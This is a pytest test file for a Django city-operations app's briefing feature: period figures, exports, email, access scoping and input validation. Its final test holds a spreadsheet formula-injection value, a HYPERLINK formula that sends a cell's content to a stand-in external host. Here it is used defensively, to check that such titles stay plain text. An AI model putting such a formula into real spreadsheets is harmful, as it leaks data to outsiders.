"""Briefings (dashboard/briefings.py) on a small city whose figures are known by hand: two districts (武昌区 with two
communities, 江岸区: cases/tests/conftest.py), yesterday's cases and timeline entries. SQLite and PostgreSQL.

Yesterday (DAY, local time), each step on the timeline as the engine stamps it (the state it left, the deadline
then running):
- W1 武昌 A, field, 09:00, dispatched, deadline DAY 12:00 (overdue), under supervision (督办, 环卫处);
- W2 武昌 B, hotline, urgent, 10:00, archived: handled on time, followed up (satisfied), closed at the community;
- J1 江岸, portal, 11:00, dispatched, deadline next year;
- OLD 武昌 A, field, the day before, accepted, deadline the day before 18:00 (marked overdue by the sweep): handled
  late yesterday at 15:00, its verification due at 16:00 and not done (overdue again).
So the city: intake 3 (field, hotline, portal 1 each), handled 2 (one late: on time 50.0%), satisfaction 100.0%,
属地解决率 at the community 100.0%, open 3 and overdue 2 at the end of DAY; 武昌区: intake 2, open 2, overdue 2; 江岸区:
intake 1, open 1, nothing handled (on time —)."""

from datetime import datetime, time, timedelta
from io import BytesIO
from pathlib import Path

import pytest
from django.core import mail
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import transaction
from django.test import Client
from django.utils import timezone

from cityops.cases.tests import conftest as city
from cityops.cases.tests.conftest import POINT_JIANGAN, POINT_WUCHANG_A, POINT_WUCHANG_B
from cityops.core import roles
from cityops.dashboard import briefings
from cityops.dashboard.briefing_models import Briefing

geography, reference, district_units = city.geography, city.reference, city.district_units
district_dispatcher = city.district_dispatcher

GRIDS = {POINT_WUCHANG_A: "42010600100101", POINT_WUCHANG_B: "42010600100201", POINT_JIANGAN: "42010200100101"}


def at(day, hour):
    return timezone.make_aware(datetime.combine(day, time(hour)))


@pytest.fixture
def day():
    return timezone.localdate() - timedelta(days=1)


@pytest.fixture(autouse=True)
def data_dir(settings, tmp_path):
    settings.DATA_DIR = tmp_path
    settings.CITYOPS_BRIEFING_LEVELS = ["city", "district"]
    return tmp_path


@pytest.fixture
def cases(reference, day):
    from cityops.accounts.models import OrgUnit
    from cityops.cases.models import Case, Category, SupervisionOrder
    from cityops.core.timeline import timeline_append

    category = Category.objects.get(code="E0101")
    names = {"420106": "武昌区", "420102": "江岸区"}
    plan = [("W1", POINT_WUCHANG_A, "field", "normal", at(day, 9), "dispatched", at(day, 12)),
            ("W2", POINT_WUCHANG_B, "hotline", "urgent", at(day, 10), "archived", at(day, 20)),
            ("J1", POINT_JIANGAN, "portal", "normal", at(day, 11), "dispatched", at(day + timedelta(days=365), 9)),
            ("OLD", POINT_WUCHANG_A, "field", "normal", at(day - timedelta(days=1), 8), "handled", at(day, 16))]
    made = {}
    for code, point, source, urgency, created, state, deadline in plan:
        grid = GRIDS[point]
        made[code] = Case.objects.create(
            code=code, source=source, urgency=urgency, category=category, lon=point[0], lat=point[1],
            region_code=grid, district_code=grid[:6], district_name=names[grid[:6]], street_code=grid[:9],
            community_code=grid[:12], grid_code=grid, description="测试", state=state, created_at=created,
            deadline_at=deadline, address="某路 1 号")
    def step(case, action, when, state, deadline=None, **params):
        """One entry as the engine writes it: the state the step left and the deadline then running."""
        case.state = state
        stamp = {"region": case.region_code, **params}
        if deadline is not None:
            stamp["deadline_at"] = deadline.isoformat()
        timeline_append(subject=case, action=action, at=when, to_state=state, params=stamp)

    with transaction.atomic():
        w1, w2, j1, old = made["W1"], made["W2"], made["J1"], made["OLD"]
        step(w1, "dispatch", at(day, 9), "dispatched", at(day, 12))
        step(w2, "dispatch", at(day, 10), "dispatched", at(day, 15))
        step(w2, "handle", at(day, 14), "handled", at(day, 15), on_time=True)
        step(w2, "close", at(day, 16), "closed", resolved_level="community")
        step(w2, "follow_up", at(day, 17), "archived")
        step(j1, "dispatch", at(day, 11), "dispatched", at(day + timedelta(days=365), 9))
        yesterday_but_one = day - timedelta(days=1)
        step(old, "accept", at(yesterday_but_one, 9), "accepted", at(yesterday_but_one, 18))
        step(old, "overdue", at(yesterday_but_one, 18) + timedelta(minutes=5), "accepted", at(yesterday_but_one, 18),
             level=1)
        step(old, "handle", at(day, 15), "handled", at(day, 16), on_time=False)
        order = SupervisionOrder.objects.create(case=made["W1"], unit=OrgUnit.objects.get(code="HW"), level="escalate",
                                                state="issued", issued_at=at(day, 13), reason="催促")
        timeline_append(subject=order, action="issue", at=at(day, 13), to_state="issued", params={"level": "escalate"})
    return made


def test_figures_by_hand(cases, day):
    city_b, made = briefings.make(kind="daily", day=day, send=False)
    assert made and city_b.region_level == "city" and city_b.period_start == city_b.period_end == day
    f = city_b.figures
    p = f["period_figures"]
    assert p["intake"] == 3 and {c["key"]: c["n"] for c in p["channels"]} == {"field": 1, "hotline": 1, "portal": 1}
    assert p["handled"] == 2 and f["rates"]["on_time"] == "50.0%" and f["rates"]["satisfaction"] == "100.0%"
    assert (f["open"], f["overdue"]) == (3, 2)
    assert p["top_categories"][0]["n"] == 3 and p["top_categories"][0]["name"]
    community = next(lv for lv in f["levels"] if lv["level"] == "community")
    assert community["resolved"] == 1 and community["local_rate_text"] == "100.0%"
    assert len(f["trend"]["days"]) == 7 and f["trend"]["intake"][-1] == 3 and f["trend"]["handled"][-1] == 2
    notable = f["notable"]
    assert [c["code"] for c in notable["overdue"]] == ["W1", "OLD"]  # the most overdue at the end of DAY first
    assert [c["late_hours"] for c in notable["overdue"]] == [12, 8]
    assert [c["code"] for c in notable["supervised"]] == ["W1"] and notable["supervised"][0]["unit"]
    assert [c["code"] for c in notable["urgent"]] == ["W2"]
    assert all("reporter" not in c for c in notable["overdue"])  # no personal data

    wuchang, _ = briefings.make(kind="daily", day=day, region="420106", send=False)
    w = wuchang.figures
    assert w["region"] == {"code": "420106", "level": "district", "name": "武昌区"}
    assert w["period_figures"]["intake"] == 2 and (w["open"], w["overdue"]) == (2, 2)
    assert w["rates"]["on_time"] == "50.0%"
    jiangan, _ = briefings.make(kind="daily", day=day, region="420102", send=False)
    j = jiangan.figures
    assert j["period_figures"]["intake"] == 1 and j["rates"]["on_time"] == "—" and j["notable"]["overdue"] == []


def test_open_and_overdue_are_as_of_the_end_of_the_period_and_a_later_remake_says_the_same(cases, day):
    """What happens after DAY changes nothing in DAY's briefing: W1 closed today, J1 marked overdue today, OLD
    verified today, a new case today. Counted now, open would be J1, NEW and OLD (verified, awaiting its close),
    overdue J1 alone; at the end of DAY it was W1, J1 and OLD, W1 and OLD overdue."""
    from cityops.cases.models import Case
    from cityops.core.timeline import timeline_append

    first, _ = briefings.make(kind="daily", day=day, send=False)
    before = first.figures
    assert (before["open"], before["overdue"]) == (3, 2)
    now = timezone.now()
    with transaction.atomic():
        w1, j1, old = (Case.objects.get(code=c) for c in ("W1", "J1", "OLD"))
        for case, action, state in ((w1, "close", "closed"), (j1, "overdue", "dispatched"), (old, "verify", "verified")):
            case.state = state
            timeline_append(subject=case, action=action, at=now, to_state=state, params={"region": case.region_code})
        Case.objects.filter(pk=w1.pk).update(state="closed", state_changed_at=now, deadline_at=None)
        Case.objects.filter(pk=j1.pk).update(overdue=True)
        Case.objects.filter(pk=old.pk).update(state="verified", state_changed_at=now, deadline_at=None)
        new = Case.objects.create(code="NEW", source="field", category=w1.category, lon=w1.lon, lat=w1.lat,
                                  region_code=w1.region_code, district_code="420106", street_code=w1.street_code,
                                  community_code=w1.community_code, grid_code=w1.grid_code, description="测试",
                                  state="dispatched", created_at=now, deadline_at=now + timedelta(days=1))
        assert new.pk
    open_now = briefings.open_at("", now + timedelta(seconds=1))
    assert {Case.objects.get(pk=c.pk).code: c.late for c in open_now} == {"J1": True, "NEW": False, "OLD": False}

    again, made = briefings.make(kind="daily", day=day, force=True, send=False, now=now + timedelta(days=3))
    after = again.figures
    assert made and again.generations == 2
    assert (after["open"], after["overdue"]) == (before["open"], before["overdue"]) == (3, 2)
    assert after["notable"]["overdue"] == before["notable"]["overdue"]
    assert after["as_of"] == before["as_of"] == f"{day + timedelta(days=1)} 00:00"
    for key in ("period_figures", "levels", "trend", "rates"):
        assert after[key] == before[key], key
    wuchang, _ = briefings.make(kind="daily", day=day, region="420106", send=False)
    assert (wuchang.figures["open"], wuchang.figures["overdue"]) == (2, 2)  # W1 and OLD, not NEW


def test_a_case_reopened_or_paused_counts_as_it_stood(cases, day):
    """The state at the end of DAY is what its last step before then left: a case closed on DAY and reopened the
    next day was not open; one whose clock was paused (挂账: no deadline stamped) after the sweep marked it stays
    overdue, as the map's late_q counts a paused overdue case; one whose clock a step restarted is no longer."""
    from cityops.cases.models import Case
    from cityops.core.timeline import timeline_append

    end = at(day + timedelta(days=1), 0)
    category = cases["W1"].category
    made = {}
    with transaction.atomic():
        for code, steps in (
            ("R1", [("dispatch", 9, "dispatched", 10), ("close", 11, "closed", None), ("reopen", 24 + 9, "dispatched", 24 + 12)]),
            ("P1", [("dispatch", 9, "dispatched", 10), ("overdue", 11, "dispatched", 10), ("suspend_approve", 12, "suspended", None)]),
            ("S1", [("dispatch", 9, "dispatched", 10), ("overdue", 11, "dispatched", 10), ("accept", 12, "accepted", 24 + 12)]),
        ):
            case = Case.objects.create(code=code, source="field", category=category, lon=114.31, lat=30.55,
                                       region_code="42010600100101", district_code="420106", description="测试",
                                       state=steps[-1][2], created_at=at(day, 8))
            for action, hour, state, deadline in steps:
                case.state = state
                params = {"region": case.region_code}
                if deadline is not None:
                    params["deadline_at"] = (at(day, 0) + timedelta(hours=deadline)).isoformat()
                timeline_append(subject=case, action=action, at=at(day, 0) + timedelta(hours=hour), to_state=state,
                                params=params)
            made[code] = case
    got = {Case.objects.get(pk=c.pk).code: c.late for c in briefings.open_at("420106", end)}
    assert got["P1"] is True and got["S1"] is False and "R1" not in got
    assert got["W1"] is True and got["OLD"] is True  # the fixture's, as before


def test_warnings_and_high_risk_disputes_in_their_district(cases, day):
    from cityops.cases.models import Category
    from cityops.dashboard.models import EarlyWarning
    from cityops.disputes.models import Dispute

    category = Category.objects.get(code="E0101")
    EarlyWarning.objects.create(category=category, region_code="420106", region_level="district", region_name="武昌区",
                                started_at=at(day, 8), detected_at=at(day, 9), window_minutes=60, observed=12,
                                expected=2.0, score=7.5, state="open")
    EarlyWarning.objects.create(category=category, region_code="420106", region_level="district", region_name="武昌区",
                                started_at=at(day, 8) - timedelta(days=3), detected_at=at(day, 9) - timedelta(days=3),
                                window_minutes=60, observed=9, expected=2.0, score=6.0, state="closed")  # not this day
    with transaction.atomic():
        for code, region, risk in (("D1", "420106001001", "high"), ("D2", "420106001001", "low"),
                                   ("D3", "420102001001", "high")):
            born(Dispute, "register", at(day, 10), created_at=at(day, 10), code=code, title=f"纠纷{code}", description="测试", kind="neighbour",
                 source="walk_in", risk_level=risk, region_code=region, params={"risk_level": risk})
    f = briefings.make(kind="daily", day=day, region="420106", send=False)[0].figures
    assert f["warnings"]["count"] == 1 and f["warnings"]["rows"][0]["observed"] == 12
    assert [d["code"] for d in f["notable"]["disputes"]] == ["D1"]
    city_figures = briefings.make(kind="daily", day=day, send=False)[0].figures
    assert [d["code"] for d in city_figures["notable"]["disputes"]] == ["D1", "D3"]
    disputes = next(d for d in city_figures["domains"] if d["app"] == "disputes")["figures"]
    assert disputes[0]["value"] == "3" and "2" in disputes[0]["hint"]  # open, of which high risk 2
    stability = next(d for d in city_figures["domains"] if d["app"] == "stability")["figures"]
    assert stability[0]["value"] == "0"


def born(model, action, when, *, params=None, **fields):
    """A workflow row created at `when` in its first state, its birth on its timeline as the engine writes it."""
    from cityops.core.timeline import timeline_append

    row = model.objects.create(state=model.workflow.initial, state_changed_at=when, **fields)
    timeline_append(subject=row, action=action, at=when, to_state=row.state, params=params or {}, new_subject=True)
    return row


def move(row, action, when, state, **params):
    """A step of a workflow row at `when`, recorded as the engine records it (the state it left on the entry)."""
    from cityops.core.timeline import timeline_append

    changed = state != row.state
    row.state = state
    if changed:
        row.state_changed_at = when
    row.version += 1
    type(row).objects.filter(pk=row.pk).update(state=state, state_changed_at=row.state_changed_at,
                                               version=row.version, **params.pop("_fields", {}))
    timeline_append(subject=row, action=action, at=when, to_state=state, params=params)
    return row


def test_every_figure_is_of_the_period_and_a_remake_after_the_period_says_the_same(cases, day):
    """IoT alarms, disputes, stability decisions, early warnings and the notable lists are counted as of the end
    of DAY: what was raised, opened or moved during DAY counts; alarms, disputes and warnings raised after it,
    and every state changed after it (an alarm closed, a dispute closed or raised to high risk, a decision moved
    on, a warning closed, a supervision order escalated, an urgent case reopened), change nothing when the
    briefing is made again."""
    from cityops.accounts.models import OrgUnit
    from cityops.cases.models import Case, Category, SupervisionOrder
    from cityops.dashboard.models import EarlyWarning
    from cityops.disputes.models import Dispute
    from cityops.iot.models import Alarm, Device, Rule
    from cityops.stability.models import Decision, DecisionRegion

    hw = OrgUnit.objects.get(code="HW")
    category = Category.objects.get(code="E0101")
    before_day = day - timedelta(days=2)
    with transaction.atomic():
        rule = Rule.objects.create(name="积水", kind="threshold", device_type="water_level", metric="water_level",
                                   threshold=0.15, severity="yellow")

        def alarm(when):  # a device of its own each (one open alarm per device and rule)
            device = Device.objects.create(code=f"WL-{Device.objects.count()}", type="water_level",
                                           region_code="42010600100101", district_code="420106")
            return born(Alarm, "raise", when, device=device, rule=rule, severity="yellow", opened_at=when)

        a_old = alarm(at(before_day, 10))  # raised before DAY, open through it
        a_day = alarm(at(day, 10))  # raised on DAY, acknowledged on DAY
        move(a_day, "acknowledge", at(day, 11), "acknowledged")
        a_done = alarm(at(day, 12))  # raised on DAY and cleared and closed on DAY
        move(a_done, "clear", at(day, 13), "cleared")
        move(a_done, "close", at(day, 14), "closed")

        def dispute(code, risk, when=at(day, 9)):
            return born(Dispute, "register", when, created_at=when, code=code, title=f"纠纷{code}", description="测试",
                        kind="neighbour", source="walk_in", risk_level=risk, region_code="420106001001",
                        params={"risk_level": risk})

        d_high, d_low, d_open = dispute("DH", "high"), dispute("DL", "low"), dispute("DO", "medium")
        move(dispute("DC", "low"), "refuse", at(day, 15), "refused")  # finished on DAY

        def decision(title, when=at(before_day, 9)):
            row = born(Decision, "propose", when, created_at=when, title=title, description="测试", proposing_unit=hw,
                       assessing_unit=hw, region_code="420106")
            DecisionRegion.objects.create(decision=row, code="420106")  # its regions, as decision_create writes them
            return row

        consulting = move(decision("征求意见中"), "consult", at(day, 9), "consultation")
        monitored = move(decision("跟踪监测中"), "monitor", at(before_day, 12), "monitoring")
        warning = born(EarlyWarning, "raise", at(day, 9), category=category, region_code="420106",
                       region_level="district", region_name="武昌区", started_at=at(day, 8), detected_at=at(day, 9),
                       window_minutes=60, observed=12, expected=2.0, score=7.5)
    first = briefings.make(kind="daily", day=day, region="420106", send=False)[0].figures

    def figures(f):
        alarms = {a["label"]: a["value"] for a in f["alarms"]}
        domains = {(d["app"], x["label"]): (x["value"], x["hint"]) for d in f["domains"] for x in d["figures"]}
        notable = {k: [(r["code"], r["state"], r.get("level")) for r in rows] for k, rows in f["notable"].items()}
        return alarms, domains, notable, f["warnings"], f["open"], f["overdue"]

    alarms, domains, notable, warnings, _open, _late = figures(first)
    assert alarms == {"未处理告警": "2", "期间告警": "2"}  # open at the end: a_old, a_day; raised on DAY: a_day, a_done
    assert domains[("disputes", "在调纠纷")] == ("3", "其中高风险 1 件")  # DH, DL, DO; DC refused on DAY
    assert domains[("stability", "稳评征求意见中")][0] == "1" and domains[("stability", "稳评跟踪监测中")][0] == "1"
    assert [(w["observed"], w["state"]) for w in warnings["rows"]] == [(12, "待确认")] and warnings["count"] == 1
    assert notable["disputes"] == [("DH", "已登记", None)]
    assert notable["supervised"] == [("W1", "待签收", "督办")] and notable["urgent"] == [("W2", "已归档", None)]

    now = timezone.now()
    with transaction.atomic():  # after DAY: new things, and every state moves on
        alarm(now - timedelta(hours=2))
        alarm(now - timedelta(hours=1))
        move(a_old, "clear", now, "cleared")
        move(a_day, "dispatch", now, "dispatched")
        move(d_high, "close", now, "closed")
        move(d_low, "raise_risk", now, "registered", to="high", _fields={"risk_level": "high"})
        move(d_open, "escalate", now, "escalated", risk_level="high", _fields={"risk_level": "high"})
        dispute("DN", "high", when=now - timedelta(hours=1))
        move(consulting, "assess", now, "assessed")
        move(monitored, "close", now, "closed")
        move(decision("之后提出", when=now - timedelta(hours=1)), "consult", now, "consultation")
        move(warning, "close", now, "closed")
        born(EarlyWarning, "raise", now - timedelta(hours=1), category=category, region_code="420106",
             region_level="district", region_name="武昌区", started_at=now - timedelta(hours=2),
             detected_at=now - timedelta(hours=1), window_minutes=60, observed=30, expected=2.0, score=9.0)
        order = SupervisionOrder.objects.get(case__code="W1")
        move(order, "escalate", now, "issued", to_level="listed", _fields={"level": "listed"})
        w2 = Case.objects.get(code="W2")
        move(w2, "reopen", now, "dispatched")
    assert Alarm.objects.filter(state__in=("active", "acknowledged", "dispatched")).count() == 3  # now: a_day, 2 new
    again = briefings.make(kind="daily", day=day, region="420106", force=True, send=False,
                           now=now + timedelta(days=2))[0].figures
    assert figures(again) == figures(first)
    assert again["generated_text"] != first["generated_text"] and again["as_of"] == first["as_of"]


def test_a_domain_without_history_is_marked_as_a_figure_of_now(cases, day, monkeypatch):
    """An app's own dashboard_figures hook that cannot count at an instant (no `at`) gives figures of now: the
    briefing says so next to them and in its note, in the PDF and the workbook."""
    from django.apps import apps
    from openpyxl import load_workbook
    from pypdf import PdfReader

    from cityops.core.home import Figure

    config = apps.get_app_config("stability")
    monkeypatch.setattr(config, "dashboard_figures", lambda user, start, end, region: [Figure("在册事项", "7")],
                        raising=False)
    b = briefings.make(kind="daily", day=day, send=False)[0]
    stability = next(d for d in b.figures["domains"] if d["app"] == "stability")
    assert stability["as_of"] is False and stability["figures"][0]["value"] == "7"
    assert all(d["as_of"] for d in b.figures["domains"] if d["app"] != "stability")
    text = "".join(p.extract_text() for p in PdfReader(BytesIO(briefings.file_of(b, "pdf")[0])).pages).replace(" ", "")
    assert "在册事项（生成时数字）" in text and "没有可还原期末状态的记录" in text
    wb = load_workbook(BytesIO(briefings.file_of(b, "xlsx")[0]))
    cells = [row[0] for row in wb["概要"].iter_rows(values_only=True)]
    assert any(str(c).endswith("在册事项（生成时数字）") for c in cells)
    assert any("没有可还原期末状态的记录" in str(c) for c in cells)


def test_weekly_and_monthly_periods():
    from datetime import date

    assert briefings.period_of("weekly", date(2026, 11, 29)) == (date(2026, 11, 23), date(2026, 11, 29))
    assert briefings.period_of("monthly", date(2026, 2, 10)) == (date(2026, 2, 1), date(2026, 2, 28))
    assert briefings.period_label("weekly", date(2026, 11, 23)) == "2026-W48"
    assert briefings.period_label("monthly", date(2026, 11, 1)) == "2026-11"


def test_pdf_text_and_xlsx_read_back(cases, day):
    from openpyxl import load_workbook
    from pypdf import PdfReader

    b, _ = briefings.make(kind="daily", day=day, region="420106", send=False)
    content, ctype, name = briefings.file_of(b, "pdf")
    assert ctype == "application/pdf" and name.endswith(".pdf") and "武昌区城市运行日报" in name
    reader = PdfReader(BytesIO(content))
    text = "".join(page.extract_text() for page in reader.pages).replace(" ", "")
    assert "武昌区城市运行日报" in text and f"{day.isoformat()}至{day.isoformat()}" in text
    assert "按时办结率" in text and "50.0%" in text and "OLD" in text and "W1" in text and "督办" in text
    fonts = {str(font.get("/BaseFont")) for page in reader.pages
             for font in (page["/Resources"].get("/Font") or {}).values()
             for font in [font.get_object()]}
    assert any("CJK" in f for f in fonts), fonts  # the Chinese font is embedded

    data, ctype, name = briefings.file_of(b, "xlsx")
    assert name.endswith(".xlsx")
    wb = load_workbook(BytesIO(data))
    assert wb.sheetnames == ["概要", "受理渠道", "高发类别", "属地解决率", "趋势", "重点案件", "预警"]
    summary = {row[0]: row[1] for row in wb["概要"].iter_rows(min_row=5, values_only=True)}
    assert summary["期间受理"] == 2 and summary["按时办结率"] == 0.5 and summary["期末超期在办"] == 2
    notable = [row[:2] for row in wb["重点案件"].iter_rows(min_row=2, values_only=True)]
    assert ("超期最久", "OLD") in notable and ("督办中", "W1") in notable and ("紧急案件", "W2") in notable
    assert wb["趋势"]._charts  # a column chart of the trend
    assert [r for r in wb["预警"].iter_rows(min_row=2, values_only=True)] == [("（无）", None, None, None, None, None)]


def test_schedule_due_and_idempotent(reference, day, settings):
    from datetime import date

    settings.CITYOPS_BRIEFING_HOUR = 7
    monday_early = at(date(2026, 11, 30), 6)  # a Monday, before 07:00
    kinds = {(k, s) for k, s, _e, _p in briefings.due(monday_early)}
    assert kinds == {("daily", date(2026, 11, 28)), ("weekly", date(2026, 11, 16)), ("monthly", date(2026, 10, 1))}
    monday = at(date(2026, 11, 30), 7)
    due = briefings.due(monday)
    assert {(k, s) for k, s, _e, _p in due} == {("daily", date(2026, 11, 29)), ("weekly", date(2026, 11, 23)),
                                                ("monthly", date(2026, 10, 1))}
    assert {p.code for _k, _s, _e, p in due} == {"", "420106", "420102"} and len(due) == 9
    first_of_month = at(date(2026, 12, 1), 8)
    assert ("monthly", date(2026, 11, 1)) in {(k, s) for k, s, _e, _p in briefings.due(first_of_month)}

    got = briefings.make_due(monday)
    assert got == {"made": 9, "failed": 0} and Briefing.objects.count() == 9
    assert briefings.due(monday) == [] and briefings.make_due(monday) == {"made": 0, "failed": 0}
    row = Briefing.objects.get(kind="daily", region_code="")
    stamp, name = row.generated_at, row.pdf_name
    again, made = briefings.make(kind="daily", day=date(2026, 11, 29), now=monday + timedelta(hours=1))
    assert not made and again.generated_at == stamp and again.generations == 1  # a rerun replaces nothing
    forced, made = briefings.make(kind="daily", day=date(2026, 11, 29), force=True, now=monday + timedelta(hours=1))
    assert made and forced.generations == 2 and forced.generated_at > stamp and forced.pdf_name == name
    assert Briefing.objects.count() == 9
    from cityops.core.timeline import timeline_for

    assert [(e.action, e.actor_name) for e in timeline_for(forced).order_by("seq")] == [("make", "worker"), ("remake", "worker")]


def test_the_worker_job_is_registered(settings):
    from cityops.core.tasks import periodic_tasks

    task, interval = periodic_tasks()["briefings"]
    assert interval == "CITYOPS_BRIEFING_INTERVAL" and getattr(settings, interval) > 0


def test_sent_by_email_to_the_levels_leaders(cases, day, make_user, settings, django_capture_on_commit_callbacks):
    settings.CITYOPS_NOTIFY_BACKENDS = ["cityops.core.notify.EmailBackend"]
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.CITYOPS_SITE_URL = "https://cityops.example"
    make_user("t_b_leader", roles.LEADER, email="leader@example.org")
    make_user("t_b_leader_nomail", roles.LEADER)
    make_user("t_b_wc", roles.DISTRICT_DISPATCHER, region_codes=["420106"], email="wc@example.org")
    make_user("t_b_ja", roles.DISTRICT_DISPATCHER, region_codes=["420102"], email="ja@example.org")
    make_user("t_b_street", roles.REGION_STAFF, region_codes=["420106001"], email="street@example.org")
    with django_capture_on_commit_callbacks(execute=True):
        city_b, _ = briefings.make(kind="daily", day=day)
    assert [m.to for m in mail.outbox] == [["leader@example.org"]]
    message = mail.outbox[0]
    assert "全市城市运行日报" in message.subject and day.isoformat() in message.subject
    assert f"https://cityops.example/dashboard/briefings/{city_b.pk}/" in message.body and "受理 3 件" in message.body
    assert not message.attachments  # a link behind the login, not the files
    city_b.refresh_from_db()
    assert city_b.sent_at and city_b.recipients == 2  # the leader without an e-mail gets the inbox row
    from cityops.core.timeline import timeline_for

    sent = timeline_for(city_b).get(action="send")
    assert sent.params == {"recipients": 2, "emails": 1}
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        briefings.make(kind="daily", day=day, region="420106")
        briefings.make(kind="daily", day=day, region="420106")  # made once, sent once
    assert [m.to for m in mail.outbox] == [["wc@example.org"]]


def test_no_mail_when_briefings_are_not_among_the_emailed_kinds(cases, day, make_user, settings,
                                                              django_capture_on_commit_callbacks):
    from cityops.core.timeline import timeline_for

    settings.CITYOPS_NOTIFY_BACKENDS = ["cityops.core.notify.EmailBackend"]
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.CITYOPS_EMAIL_KINDS = ["early_warning"]
    make_user("t_b_leader_nokind", roles.LEADER, email="leader@example.org")
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        city_b, _ = briefings.make(kind="daily", day=day)
    assert mail.outbox == []
    assert timeline_for(city_b).get(action="send").params == {"recipients": 1, "emails": 0}  # the inbox row only


@pytest.fixture
def made(cases, day):
    return {code: briefings.make(kind="daily", day=day, region=code, send=False)[0] for code in ("", "420106", "420102")}


def test_list_and_downloads_are_scoped(made, make_user, district_dispatcher):
    leader, wc = Client(), Client()
    leader.force_login(make_user("t_b_leader2", roles.LEADER))
    wc.force_login(district_dispatcher)
    page = leader.get("/dashboard/briefings/")
    assert page.status_code == 200
    html = page.content.decode()
    mine, other, city_b = made["420106"], made["420102"], made[""]
    assert "全市 · 日报" in html and "武昌区 · 日报" in html and "江岸区 · 日报" in html
    listed = wc.get("/dashboard/briefings/").content.decode()
    assert "武昌区 · 日报" in listed and "江岸区" not in listed
    assert f"/dashboard/briefings/{city_b.pk}/" not in listed and f"/dashboard/briefings/{mine.pk}/pdf/" in listed
    pdf = wc.get(f"/dashboard/briefings/{mine.pk}/pdf/")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert "attachment" in pdf["Content-Disposition"]
    assert wc.get(f"/dashboard/briefings/{mine.pk}/xlsx/").status_code == 200
    assert wc.get(f"/dashboard/briefings/{other.pk}/pdf/").status_code == 404
    assert wc.get(f"/dashboard/briefings/{city_b.pk}/").status_code == 404
    assert leader.get(f"/dashboard/briefings/{city_b.pk}/").status_code == 200
    api = wc.get("/api/v1/dashboard/briefings").json()
    assert [b["region_code"] for b in api] == ["420106"]
    assert wc.get(f"/api/v1/dashboard/briefings/{other.pk}").json()["code"] == "briefing_not_found"
    got = wc.get(f"/api/v1/dashboard/briefings/{mine.pk}/xlsx")
    assert got.status_code == 200 and got.content[:2] == b"PK"
    resident = Client()
    resident.force_login(make_user("t_b_resident", roles.RESIDENT))
    assert "暂无简报" in resident.get("/dashboard/briefings/").content.decode()
    assert resident.get(f"/dashboard/briefings/{mine.pk}/pdf/").status_code == 404
    assert Client().get("/dashboard/briefings/").status_code == 302
    home = wc.get("/").content.decode()  # the home page's card: the newest briefing they may read
    assert "运行简报" in home and "最新：武昌区城市运行日报" in home
    assert "运行简报" not in resident.get("/", follow=True).content.decode()
    assert Client().get("/api/v1/dashboard/briefings").status_code == 401


def test_pages_in_english(made, make_user):
    leader = Client(HTTP_ACCEPT_LANGUAGE="en")
    leader.force_login(make_user("t_b_leader_en", roles.LEADER))
    html = leader.get("/dashboard/briefings/").content.decode()
    assert "Operations briefings" in html and "Daily briefing" in html and "运行简报" not in html
    one = leader.get(f"/dashboard/briefings/{made['420106'].pk}/").content.decode()
    assert "Download PDF" in one and "Notable cases" in one and "Handled in the period" in one


def test_files_are_not_under_media(made, settings, data_dir):
    b = made["420106"]
    assert (data_dir / "private" / "briefings" / b.pdf_name).exists()
    assert not any(Path(settings.MEDIA_ROOT).rglob("*.pdf")) if Path(settings.MEDIA_ROOT).exists() else True


@pytest.mark.parametrize(("args", "code"), [
    (["--kind", "yearly", "--date", "2026-11-29"], "invalid_kind"),
    (["--kind", "daily", "--date", "2026-13-40"], "invalid_date"),
    (["--kind", "daily", "--date", "2026-11-29\x00"], "invalid_date"),
    (["--kind", "daily", "--date", "9" * 40], "invalid_date"),
    (["--kind", "daily", "--date", "2026-11-29", "--region", "4201a"], "invalid_region"),
    (["--kind", "daily", "--date", "2026-11-29", "--region", "999999"], "region_not_found"),
    (["--kind", "daily", "--date", "2999-01-01"], "period_not_over"),
])
def test_command_bad_input_is_coded(reference, args, code):
    with pytest.raises(CommandError, match=code):
        call_command("briefing", "make", *args)
    assert Briefing.objects.count() == 0


def test_command_makes_once(cases, day, capsys):
    call_command("briefing", "make", "--kind", "daily", "--date", day.isoformat(), "--region", "420106", "--no-send")
    call_command("briefing", "make", "--kind", "daily", "--date", day.isoformat(), "--region", "420106", "--no-send")
    out = capsys.readouterr().out
    assert "made" in out and "exists" in out and Briefing.objects.count() == 1
    from cityops.core.timeline import timeline_for

    assert [e.actor_name for e in timeline_for(Briefing.objects.get())] == ["cityops briefing make"]
    last_week = day - timedelta(days=7)
    call_command("briefing", "make", "--kind", "weekly", "--date", last_week.isoformat(), "--no-send")
    assert Briefing.objects.filter(kind="weekly", region_code="").count() == 1


@pytest.mark.parametrize(("path", "status", "code"), [
    ("/api/v1/dashboard/briefings?kind=yearly", 400, "invalid_kind"),
    ("/api/v1/dashboard/briefings?region=4201a", 400, "invalid_region"),
    ("/api/v1/dashboard/briefings/99999999", 404, "briefing_not_found"),
    ("/api/v1/dashboard/briefings/99999999999999999999999", 400, "invalid_input"),
    ("/api/v1/dashboard/briefings/1/doc", 400, "invalid_format"),
])
def test_api_bad_input_is_coded(reference, make_user, path, status, code):
    client = Client()
    client.force_login(make_user("t_b_leader3", roles.LEADER))
    answer = client.get(path)
    assert answer.status_code == status, answer.content[:300]
    if code:
        assert answer.json()["code"] == code


def test_the_workbook_keeps_a_formula_like_title_as_text(cases, day):
    """A notable dispute's title is typed at the desk: one beginning like a formula stays text in the workbook."""
    import copy

    from openpyxl import load_workbook

    from cityops.dashboard import briefing_render

    hostile = '=HYPERLINK("http://x.example/?"&B3,"详情")'
    b, _ = briefings.make(kind="daily", day=day, region="420106", send=False)
    figures = copy.deepcopy(b.figures)
    figures["notable"]["disputes"] = [{"code": "D1", "kind": "邻里纠纷", "title": hostile, "state": "调解中",
                                       "reported": "11-30 09:00"}]
    ws = load_workbook(BytesIO(briefing_render.xlsx_bytes(figures)))["重点案件"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
